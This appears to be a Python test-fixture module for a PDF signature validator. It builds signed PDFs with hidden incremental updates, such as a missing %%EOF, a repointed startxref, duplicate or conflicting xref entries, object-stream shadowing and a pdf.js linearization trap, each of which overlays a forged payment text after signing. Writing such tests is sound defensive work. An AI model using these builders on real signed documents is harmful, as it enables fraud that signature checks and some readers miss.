"""Hidden updates (issue #9): documents in which an update made after signing is seen by some
PDF readers and not by pyHanko's parser, or means one thing to one reader and another thing to
another. docs/security.md describes the family; each member has one builder here.

Every builder takes the bytes of a signed document (``BASES``: an approval signature, a
certification that allows no change, a B-LTA archive) and returns the attacked file. The forged
content is always the same page-1 overlay, so that a test can look for it in what poppler shows.
Updates are written by hand (``raw_update``), because their point is to be malformed in exactly
one way that a PDF library would never write.
"""

from __future__ import annotations

import dataclasses
import io
import re
from collections.abc import Callable
from dataclasses import dataclass

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter
from pyhanko.pdf_utils.reader import PdfFileReader

FORGED_TEXT = ("FORGED AFTER SIGNING", "Pay 1 000 000 000 VND")
FORGED_CONTENT = (b"BT /F1 24 Tf 72 380 Td (FORGED AFTER SIGNING) Tj 0 -30 Td "
                  b"(Pay 1 000 000 000 VND) Tj ET")


@dataclass(frozen=True)
class Base:
    """What an update needs to know of the signed file it extends."""

    data: bytes
    root: int  # catalog object number
    info: int | None
    size: int  # trailer /Size
    startxref: int  # of the signed revision
    page: int  # page 1's object number
    page_dict: bytes  # page 1's dictionary as written by pyHanko
    contents: list[int]  # page 1's content stream object numbers

    @classmethod
    def of(cls, data: bytes) -> Base:
        reader = PdfFileReader(io.BytesIO(data), strict=False)
        trailer = reader.trailer
        page_ref = reader.root["/Pages"]["/Kids"].raw_get(0)
        page = page_ref.get_object()
        contents = page.raw_get("/Contents")
        if isinstance(contents, generic.IndirectObject) and isinstance(
                contents.get_object(), generic.ArrayObject):
            contents = contents.get_object()
        refs = list(contents) if isinstance(contents, generic.ArrayObject) else [contents]
        out = io.BytesIO()
        page.write_to_stream(out)
        info = trailer.raw_get("/Info") if "/Info" in trailer else None
        return cls(data, trailer.raw_get("/Root").idnum, info.idnum if info else None,
                   int(trailer["/Size"]), reader.last_startxref, page_ref.idnum,
                   out.getvalue(), [r.idnum for r in refs])

    def page_with_contents(self, numbers: list[int]) -> bytes:
        """Page 1's dictionary with /Contents replaced by ``numbers``."""
        array = b"[" + b" ".join(b"%d 0 R" % n for n in numbers) + b"]"
        return re.sub(rb"/Contents\s*(\[[^\]]*\]|\d+\s+\d+\s+R)", b"/Contents " + array,
                      self.page_dict, count=1)


def stream_object(content: bytes) -> bytes:
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(content), content)


def raw_update(base: Base, objects: list[tuple[int, bytes]], *, unlisted=(), entries=None,
               size: int | None = None, prev: int | None = None, xref_stm: int | None = None,
               ending: bytes = b"startxref\n%d\n%%%%EOF\n", offset_shift: int = 0) -> bytes:
    """One incremental update after ``base.data``: ``objects`` (number, body) listed in an
    xref table; ``unlisted`` (number, body) written into the body but not listed;
    ``entries`` overrides the listed (number, offset) pairs (offsets of ``objects`` by
    number are in the dict passed to it); ``ending`` is formatted with the xref offset."""
    out = bytearray(b"\n")
    offsets: dict[int, list[int]] = {}
    for number, body in [*objects, *unlisted]:
        offsets.setdefault(number, []).append(len(base.data) + len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    listed = [(n, offsets[n][0]) for n, _ in objects]
    if entries is not None:
        listed = entries(offsets)
    xref_at = len(base.data) + len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in listed:
        out += b"%d 1\n%010d 00000 n \n" % (number, offset + offset_shift)
    size = size or max([base.size, *(n + 1 for n, _ in [*objects, *unlisted])])
    trailer = b"<< /Size %d /Root %d 0 R /Prev %d" % (size, base.root,
                                                      base.startxref if prev is None else prev)
    if base.info is not None:
        trailer += b" /Info %d 0 R" % base.info
    if xref_stm is not None:
        trailer += b" /XRefStm %d" % xref_stm
    out += b"trailer\n" + trailer + b" >>\n" + (ending % xref_at if b"%d" in ending else ending)
    return base.data + bytes(out)


def forged_update(base: Base, **kw) -> bytes:
    """The ordinary forgery: a new content stream drawing FORGED_TEXT, added to page 1."""
    forged = base.size
    return raw_update(base, [
        (forged, stream_object(FORGED_CONTENT)),
        (base.page, base.page_with_contents([*base.contents, forged])),
    ], **kw)


def without_final_eof(data: bytes, replacement: bytes = b"") -> bytes:
    body = data.rstrip()
    assert body.endswith(b"%%EOF")
    return body[:-5] + replacement


HIDDEN: dict[str, tuple[str, Callable[[Base], bytes]]] = {}
"""name -> (base document, builder)"""


def hidden(name: str, base: str = "approval"):
    def register(fn):
        HIDDEN[name] = (base, fn)
        return fn
    return register


# --- 1. the update pyHanko never reads: its %%EOF is missing or misspelled -------------------

@hidden("hidden-eof-deleted")
def eof_deleted(base: Base) -> bytes:
    """The forged update without its final %%EOF: pyHanko stops at the signed revision's
    %%EOF; poppler, qpdf and pdf.js follow the last startxref to the forged update."""
    return without_final_eof(forged_update(base))


@hidden("hidden-eof-misspelled")
def eof_misspelled(base: Base) -> bytes:
    """The same with the marker spelled %%E0F (a zero)."""
    return without_final_eof(forged_update(base), b"%%E0F\n")


@hidden("hidden-eof-deleted-certified", base="certified")
def eof_deleted_certified(base: Base) -> bytes:
    """The hidden forged update on a certified document that allows no change (DocMDP 1)."""
    return without_final_eof(forged_update(base))


@hidden("hidden-eof-deleted-lta", base="lta")
def eof_deleted_lta(base: Base) -> bytes:
    """The hidden forged update on a B-LTA archive (after its document timestamp)."""
    return without_final_eof(forged_update(base))


@hidden("hidden-eof-misspelled-lta", base="lta")
def eof_misspelled_lta(base: Base) -> bytes:
    """The hidden forged update on a B-LTA archive, its marker spelled %EOF."""
    return without_final_eof(forged_update(base), b"%EOF\n")


@hidden("hidden-eof-deleted-long")
def eof_deleted_long(base: Base) -> bytes:
    """A hidden update longer than the 1 KiB in which pyHanko looks for %%EOF: pyHanko
    cannot read the file at all (a different failure, the same duty: no pass)."""
    padding = b"%" + b" " * 2000 + b"\n"
    return without_final_eof(forged_update(base)).replace(b"\nxref\n", b"\n" + padding + b"xref\n")


# --- 2. bytes that no revision explains ---------------------------------------------------

@hidden("hidden-startxref-repointed")
def startxref_repointed(base: Base) -> bytes:
    """The forged objects and their xref, but the final startxref points back at the
    signed revision's cross-reference table: every reader shows the signed revision, yet
    a forged update sits in the file for any reader that rebuilds the table."""
    return forged_update(base, ending=b"startxref\n%d\n%%%%EOF\n" % base.startxref)


@hidden("hidden-revision-skipped")
def revision_skipped(base: Base) -> bytes:
    """A complete forged update, then an ordinary one whose /Prev skips it and points at the
    signed revision: the forged revision is reachable by no pointer, only by a rebuild."""
    skipped = dataclasses.replace(base, data=forged_update(base))
    return raw_update(skipped, [])


# --- 3. one revision, two meanings ----------------------------------------------------------

@hidden("hidden-unlisted-redefinition")
def unlisted_redefinition(base: Base) -> bytes:
    """An update whose body also redefines page 1 (drawing the forged stream) without listing
    it; one of its listed entries points a byte off, so readers that check entries rebuild
    the table from the bodies, and the last definition of page 1 wins there."""
    forged = base.size
    return raw_update(base, [(forged, stream_object(FORGED_CONTENT))],
                      unlisted=[(base.page, base.page_with_contents([*base.contents, forged]))],
                      entries=lambda offsets: [(forged, offsets[forged][0] + 1)])


@hidden("hidden-duplicate-entry")
def duplicate_entry(base: Base) -> bytes:
    """An update whose xref table lists page 1 twice: first the forged page, then an exact
    copy of the signed one. Readers disagree on which entry of a section counts."""
    forged = base.size
    pages = [(base.page, base.page_with_contents([*base.contents, forged])),
             (base.page, base.page_dict)]
    return raw_update(base, [(forged, stream_object(FORGED_CONTENT))], unlisted=pages,
                      entries=lambda offsets: [(forged, offsets[forged][0]),
                                               (base.page, offsets[base.page][0]),
                                               (base.page, offsets[base.page][1])])


@hidden("hidden-startxref-off")
def startxref_off(base: Base) -> bytes:
    """The forged update with its startxref two bytes before its xref table: a lenient
    reader repairs the pointer its own way (pyHanko looks nearby, poppler rebuilds the
    table), so what is shown depends on the reader."""
    data = forged_update(base)
    match = list(re.finditer(rb"startxref\n(\d+)\n%%EOF", data))[-1]
    off = str(int(match[1]) - 2).rjust(len(match[1]), "0").encode()
    return data[:match.start(1)] + off + data[match.end(1):]


def xref_stream_object(size: int, entries: list[tuple[int, int]]) -> bytes:
    """An unfiltered cross-reference stream listing (number, offset) as in-use objects."""
    index = b" ".join(b"%d 1" % number for number, _ in entries)
    rows = b"".join(b"\x01" + offset.to_bytes(4, "big") + b"\x00\x00" for _, offset in entries)
    return (b"<< /Type /XRef /Size %d /W [1 4 2] /Index [%s] /Length %d >>\nstream\n%s\n"
            b"endstream" % (size, index, len(rows), rows))


@hidden("hidden-hybrid-conflict")
def hybrid_conflict(base: Base) -> bytes:
    """A hybrid update (xref table plus /XRefStm): the table lists an exact copy of the
    signed page 1, the cross-reference stream lists the forged page under the same number.
    The standard gives the table precedence; a reader that merges the other way shows the
    forgery."""
    forged, stm = base.size, base.size + 1
    out, at = bytearray(b"\n"), {}
    for key, number, body in [("content", forged, stream_object(FORGED_CONTENT)),
                              ("forged", base.page, base.page_with_contents([*base.contents,
                                                                             forged])),
                              ("copy", base.page, base.page_dict),
                              ("stm", stm, xref_stream_object(stm + 1, []))]:
        at[key] = len(base.data) + len(out)
        if key == "stm":
            body = xref_stream_object(stm + 1, [(base.page, at["forged"])])
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref_at = len(base.data) + len(out)
    out += b"xref\n0 1\n0000000000 65535 f \n"
    for number, key in ((forged, "content"), (base.page, "copy")):
        out += b"%d 1\n%010d 00000 n \n" % (number, at[key])
    out += (b"trailer\n<< /Size %d /Root %d 0 R /Prev %d /XRefStm %d >>\nstartxref\n%d\n"
            b"%%%%EOF\n" % (stm + 1, base.root, base.startxref, at["stm"], xref_at))
    return base.data + bytes(out)


@hidden("hidden-object-stream-shadow")
def object_stream_shadow(base: Base) -> bytes:
    """An update adding an object stream that holds a forged page 1 which no entry of the
    update points to: readers that index object streams by their contents (or rebuild the
    table) take the forged page; pyHanko sees an unused new object."""
    forged, objstm = base.size, base.size + 1
    page = base.page_with_contents([*base.contents, forged])
    header = b"%d 0 " % base.page
    objstm_body = (b"<< /Type /ObjStm /N 1 /First %d /Length %d >>\nstream\n%s%s\nendstream"
                   % (len(header), len(header) + len(page), header, page))
    return raw_update(base, [(forged, stream_object(FORGED_CONTENT)), (objstm, objstm_body)])


def build(name: str, bases: dict[str, bytes]) -> bytes:
    base_name, builder = HIDDEN[name]
    return builder(Base.of(bases[base_name]))


# --- 4. a trap set before signing: pdf.js and linearization --------------------------------

def linearized_trap(original: bytes, sign: Callable[[bytes], bytes]) -> bytes:
    """pdf.js reads a linearized file from its first-page cross-reference table when the
    linearization dictionary's /L equals the file's length, and then never sees the updates
    after the linearized revision. The attacker linearizes a document (qpdf), prepares an
    update that draws the forged text, and sets /L to the length the file will have once
    signed and padded with blanks; the signer's viewer (length mismatch: not linearized)
    shows the forged text and the signature covers it, pdf.js later shows the original."""
    import subprocess
    import tempfile
    from pathlib import Path

    with tempfile.TemporaryDirectory() as folder:
        src, out = Path(folder) / "in.pdf", Path(folder) / "lin.pdf"
        # a blank content stream keeps /L at five digits, like the signed file's length
        writer = IncrementalPdfFileWriter(io.BytesIO(original), strict=False)
        writer.add_stream_to_page(0, writer.add_object(
            generic.StreamObject(stream_data=b" " * 9000)))
        padded = io.BytesIO()
        writer.write(padded)
        src.write_bytes(padded.getvalue())
        subprocess.run(["qpdf", "--linearize", "--object-streams=disable",
                        "--compress-streams=n", str(src), str(out)], check=True)
        linearized = out.read_bytes()
    stated = re.search(rb"/L (\d+)", linearized)
    assert stated is not None and len(stated[1]) == 5, stated

    def prepared_and_signed(length: int) -> bytes:
        data = linearized[:stated.start(1)] + b"%05d" % length + linearized[stated.end(1):]
        base = Base.of(data)
        return sign(forged_update(base))

    final = len(prepared_and_signed(99999)) + 64  # the same bytes but /L: the same length
    signed = prepared_and_signed(final)
    return signed + b" " * (final - len(signed))


HIDDEN["hidden-linearized-trap"] = ("linearized-trap", lambda base: base.data)
"""built whole by ``linearized_trap`` (its base is the attack itself)"""
